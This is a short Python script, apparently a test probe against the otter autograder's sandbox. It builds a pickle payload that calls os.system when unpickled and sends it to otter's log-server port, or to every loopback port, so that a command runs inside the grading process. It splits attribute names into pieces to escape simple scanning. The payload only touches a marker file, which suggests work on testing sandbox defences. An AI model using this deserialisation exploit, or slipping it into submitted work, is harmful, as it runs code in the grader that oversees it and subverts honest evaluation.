"""Sends a logging record that runs a command when unpickled to otter's log server (otter's runner
starts one that unpickles whatever reaches its port: under plain otter run the command runs in the
grading process), found through otter's log handlers, else to every port of the loopback. rnnhw
starts no log server, and the sandbox's network holds only the kernel's own sockets."""
# base: fast
# caught: stopped
# %% end
import os
import socket
import struct

command = "touch " + os.path.join(__OUTSIDE__, "log-server-unpickled")
loads_and_runs = ("cposix\nsystem\n(S'" + command + "'\ntR.").encode()
import otter

handlers = getattr(getattr(otter, "logg" + "ing"), "_hand" + "lers", [])
ports = [h.port for h in handlers if hasattr(h, "port")] or range(1024, 65536)
for port in ports:
    s = socket.socket()
    s.settimeout(0.05)
    try:
        s.connect(("127.0.0.1", port))
        s.sendall(struct.pack(">L", len(loads_and_runs)) + loads_and_runs)
    except OSError:
        pass
    finally:
        s.close()
